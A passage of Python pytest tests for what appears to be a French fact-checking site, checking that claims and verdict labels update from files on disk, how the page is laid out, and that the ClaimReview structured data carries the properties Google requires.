    assert claim_client.get("/api/claims/deux-balayeuses").get_json()["verdict"] == "inaccurate"
    assert 'href="/affirmations?verdict=inaccurate">faux <span class="count">1</span>' in page(claim_client, "/affirmations")


def test_a_claim_added_on_disk_is_published_at_the_next_request(client, content_dir):
    assert client.get("/affirmations/deux-balayeuses").status_code == 404
    write(content_dir / CLAIM_FILE, CLAIM)
    assert "« Deux balayeuses » pour deux communes : exact" in page(client, "/affirmations/deux-balayeuses")
    assert client.get("/api/sources/deliberation-test").get_json()["cited_by_claims"] == ["deux-balayeuses"]


def test_a_claim_deleted_on_disk_is_gone_at_the_next_request(claim_client, content_dir):
    assert page(claim_client, "/affirmations/deux-balayeuses")
    (content_dir / CLAIM_FILE).unlink()
    assert claim_client.get("/affirmations/deux-balayeuses").status_code == 404
    assert "affirmation-deux-balayeuses" not in page(claim_client, "/sources/deliberation-test")


def test_a_verdicts_file_edited_on_disk_relabels_the_badge(claim_client, content_dir):
    assert "exact</span>" in page(claim_client, "/affirmations/deux-balayeuses")
    shipped = (DEMO_CONTENT / "verdicts.yml").read_text(encoding="utf-8")
    write(content_dir / "verdicts.yml", shipped.replace("label: exact", "label: tout à fait exact"))
    assert '<span class="badge verdict-accurate">tout à fait exact</span>' in page(claim_client, "/affirmations/deux-balayeuses")


def test_the_explanation_stands_beside_the_evidence_under_the_claim(demo_client):
    html = page(demo_client, f"/affirmations/{EXACT}")
    claim_column = html[html.index('<section class="claim-column"') : html.index('<section class="evidence-column"')]
    assert '<h2 id="analyse">Notre analyse</h2>' in claim_column


def test_the_claim_review_has_the_properties_google_requires_and_recommends(demo_client):
    """developers.google.com/search/docs/appearance/structured-data/factcheck: required claimReviewed,
    reviewRating (alternateName, or ratingValue with best/worst), url; recommended author, datePublished,
    itemReviewed (a Claim with author, datePublished, appearance)."""
    for claim_id in (EXACT, MILLION):
        data = claim_review(page(demo_client, f"/affirmations/{claim_id}"))
        assert data["@type"] == "ClaimReview" and data["claimReviewed"] and data["url"].endswith(f"/affirmations/{claim_id}")
        rating = data["reviewRating"]
        assert rating["@type"] == "Rating" and rating["alternateName"]
        if "ratingValue" in rating:
            assert rating["worstRating"] <= rating["ratingValue"] <= rating["bestRating"]
        assert data["author"]["name"] and data["datePublished"]
        claimed = data["itemReviewed"]
        assert claimed["@type"] == "Claim" and claimed["author"]["name"] and claimed["datePublished"]
        assert claimed["appearance"][0]["url"]
